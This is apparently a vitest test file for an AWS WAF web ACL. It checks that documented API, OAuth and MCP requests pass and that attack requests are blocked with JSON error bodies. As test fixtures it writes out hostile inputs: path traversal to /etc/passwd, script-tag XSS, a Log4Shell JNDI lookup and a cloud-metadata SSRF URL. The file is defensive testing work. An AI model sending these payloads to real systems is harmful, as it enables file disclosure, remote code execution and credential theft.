// The web ACL: it accepts all requests that API, OAuth and pages serve, and refuses others in the API's format.
import { describe, expect, test } from 'vitest';
import { pagePaths } from '../../lambda/web/paths.ts';
import { stages } from '../../lib/stages.ts';
import { synthesizeStage, testApp } from '../support/synth.ts';
import { documentedRules, partsOf, type SentRequest } from '../support/managed-rules.ts';
import openapi from '../surfaces/openapi.json' with { type: 'json' };

const prod = synthesizeStage(testApp(), 'prod', stages.prod);
const acl = prod.resources('Edge').find(([, { Type }]) => Type === 'AWS::WAFv2::WebACL')![1].Properties;
const refusing = acl.Rules.find(({ Name }: any) => Name === 'Refused');
const refusedLabels: { Scope: string; Key: string }[] = refusing.Statement.OrStatement.Statements.map(
  ({ LabelMatchStatement }: any) => LabelMatchStatement,
);
const counted = new Set<string>(
  acl.Rules.flatMap(({ Statement }: any) => Statement.ManagedRuleGroupStatement?.RuleActionOverrides ?? []).map(
    ({ Name, ActionToUse }: any) => `${Name} ${Object.keys(ActionToUse)}`,
  ),
);

/** Whether a request that matches a managed rule is refused, by the rule itself or by its label. */
function refuses([name, { label }]: (typeof documentedRules)[number]): boolean {
  if (!counted.has(`${name} Count`)) return true;
  return refusedLabels.some(({ Scope, Key }) => (Scope === 'NAMESPACE' ? label.startsWith(Key) : label === Key));
}

function refusedBy(request: SentRequest): string[] {
  const parts = partsOf(request);
  return documentedRules.filter((rule) => rule[1].matches(parts) && refuses(rule)).map(([name]) => name);
}

/** https://docs.aws.amazon.com/waf/latest/developerguide/customizing-the-response-status-codes.html */
const refusingStatuses = [400, 401, 403, 404, 405, 408, 409, 411, 412, 413, 414, 415, 416, 421, 429];

test('refuses with a status that WAF gives, which its body says too', () => {
  const answers = acl.Rules.flatMap(({ Action }: any) => Action?.Block?.CustomResponse ?? []);
  expect(answers).toHaveLength(4);
  for (const { ResponseCode, CustomResponseBodyKey } of answers) {
    expect(refusingStatuses).toContain(ResponseCode);
    expect(JSON.parse(acl.CustomResponseBodies[CustomResponseBodyKey].Content).status).toBe(ResponseCode);
  }
});

test('bounds requests of public files by an address far below those of the API', () => {
  const bounds = acl.Rules.flatMap(({ Name, Statement }: any) => {
    const { Limit, AggregateKeyType, ScopeDownStatement: scope } = Statement.RateBasedStatement ?? {};
    if (!scope) return [];
    const matches = (scope.OrStatement?.Statements ?? [scope]).map(({ ByteMatchStatement }: any) => ByteMatchStatement);
    expect(AggregateKeyType).toBe('IP');
    return [[Name, Limit, ...matches.map((match: any) => `${match.PositionalConstraint} ${match.SearchString}`)]];
  });
  expect(bounds).toEqual([
    ['Documents', 100, 'EXACTLY /v1/openapi.json', 'EXACTLY /v1/reference'],
    ['Assets', 1000, 'STARTS_WITH /assets/'],
  ]);
  const priorities = acl.Rules.map(({ Priority }: any) => Priority);
  expect(new Set(priorities).size).toBe(priorities.length);
});

/** Every request of the OpenAPI document, with the examples of its parameters and of its body. */
function documentedRequests(): [name: string, request: SentRequest][] {
  return Object.entries(openapi.paths).flatMap(([path, methods]) =>
    Object.entries(methods as Record<string, any>).map(([method, operation]): [string, SentRequest] => {
      const { parameters = [], requestBody } = operation;
      const given = (where: string) => parameters.filter((parameter: any) => parameter.in === where);
      const exampleOf = ({ example, schema }: any) =>
        String(example ?? schema?.default ?? schema?.enum?.[0] ?? 'abc_123');
      const filled = given('path').reduce(
        (text: string, parameter: any) => text.replace(`{${parameter.name}}`, exampleOf(parameter)),
        path,
      );
      const query = new URLSearchParams(given('query').map((parameter: any) => [parameter.name, exampleOf(parameter)]));
      const body = JSON.stringify(requestBody?.content['application/json']?.example ?? null);
      return [`${method} ${path}`, { method, path: `/v1${filled}`, query: String(query), body, headers: {} }];
    }),
  );
}

const scopes = ['streams:read', 'streams:write', 'media:read', 'media:write', 'billing:read', 'billing:write'];
const authorization = String(
  new URLSearchParams({
    client_id: 'https://client.example.com/oauth/metadata.json',
    redirect_uri: 'http://127.0.0.1:33418/callback.log?next=../../start',
    response_type: 'code',
    scope: `openid profile email offline_access ${scopes.join(' ')}`,
    // Some clients store their own state in it, in their own encoding.
    state: `<return to="http://10.0.0.7/../app.ini">${'c3RhdGU'.repeat(300)}`,
    code_challenge: 'E9Melhoa2OwvFrEMTJguCHaoeK1t8URWbuGJSstw-cM',
    code_challenge_method: 'S256',
    resource: 'https://live.example.com/mcp',
  }),
);
const signed = `${authorization}&exp=1767225600&sig=${'A'.repeat(43)}%3D`;
const get = (path: string, query = ''): SentRequest => ({ method: 'get', path, query, body: '', headers: {} });
const post = (path: string, body: string): SentRequest => ({ method: 'post', path, query: '', body, headers: {} });
const cookies = { cookie: `__Secure-session=${'a'.repeat(64)}.${'b'.repeat(86)}%3D`, 'user-agent': 'Mozilla/5.0' };

const ownRequests: [name: string, request: SentRequest][] = [
  ...documentedRequests(),
  ['an authorization request', get('/api/auth/oauth2/authorize', authorization)],
  ...pagePaths.map((path): [string, SentRequest] => [
    `the page ${path} amid an authorization`,
    { ...get(path, signed), headers: cookies },
  ]),
  ['a registration', post('/api/auth/oauth2/register', '{"redirect_uris":["http://127.0.0.1:9/callback"]}')],
  ['a code for tokens', post('/api/auth/oauth2/token', `grant_type=authorization_code&redirect_uri=${authorization}`)],
  ['discovery', get('/.well-known/oauth-protected-resource/mcp')],
  ['what an agent sends', post('/mcp', '{"method":"tools/call","params":{"title":"<b>Tonight</b> ../../live"}}')],
  ['a query', post('/graphql', `{"query":"{ streams { edges { node { id } } } }${' '.repeat(9000)}"}`)],
  ['an import from an address', post('/v1/uploads/import', '{"url":"http://192.0.2.10/films/boot.log"}')],
  [
    'a title of somebody who writes about the web',
    post('/v1/streams', '{"title":"<script>alert(1)</script>, explained"}'),
  ],
  ['a webhook that the application refuses', post('/v1/webhooks', '{"url":"http://169.254.169.254/latest/meta-data"}')],
];

describe('a request that the platform is made for', () => {
  test.each(ownRequests)('is let through: %s', (_name, request) => {
    expect(refusedBy(request)).toEqual([]);
  });

  test('is one of every operation', () => {
    expect(ownRequests.length).toBeGreaterThan(50);
  });
});

describe('an attack', () => {
  test.each([
    ['a file of the machine', get('/v1/../../etc/passwd'), 'GenericLFI_URIPATH'],
    ['a configuration', get('/app.ini'), 'RestrictedExtensions_URIPATH'],
    ['a script in a path', get('/<script>alert("hello")</script>'), 'CrossSiteScripting_URIPATH'],
    ['a lookup of Log4j', post('/v1/streams', '{"title":"${jndi:ldap://example.com/}"}'), 'Log4JRCE_BODY'],
    ['an application server', get('/web-inf/web.xml'), 'ExploitablePaths_URIPATH'],
  ])('is refused: %s', (_name, request, rule) => {
    expect(refusedBy(request)).toContain(rule);
  });

  test('is answered as the API answers', () => {
    expect(refusing.Priority).toBe(Math.max(...acl.Rules.map(({ Priority }: any) => Priority)));
    for (const { Name, Action } of acl.Rules.filter(({ Action }: any) => Action)) {
      const { ResponseCode, CustomResponseBodyKey } = Action.Block.CustomResponse;
      const { ContentType, Content } = acl.CustomResponseBodies[CustomResponseBodyKey];
      expect([Name, ContentType, JSON.parse(Content).status]).toEqual([Name, 'APPLICATION_JSON', ResponseCode]);
    }
  });

  // WAF refuses a web ACL that overrides rules which their group does not have.
  test('is looked for by rules that their groups have', () => {
    const known = new Set(documentedRules.map(([name]) => `${name} Count`));
    expect([...counted].filter((override) => !known.has(override))).toEqual([]);
  });
});
